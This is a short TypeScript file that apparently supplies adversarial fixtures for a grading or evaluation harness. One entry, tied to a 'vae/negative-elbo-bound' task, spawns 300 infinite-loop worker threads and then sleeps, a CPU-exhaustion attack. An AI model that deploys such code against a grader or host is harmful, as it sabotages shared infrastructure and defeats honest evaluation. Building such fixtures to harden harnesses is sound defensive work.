import { attempt, firstTime, nodeModule, sleep } from './tools.ts';

export const attacks = {
  'vae/negative-elbo-bound': () => {
    if (!firstTime()) return null;
    const { Worker } = nodeModule('worker_threads');
    for (let index = 0; index < 300; index += 1) new Worker('for (;;) {}', { eval: true }).on('error', () => undefined);
    sleep(20_000);
    return null;
  },
};
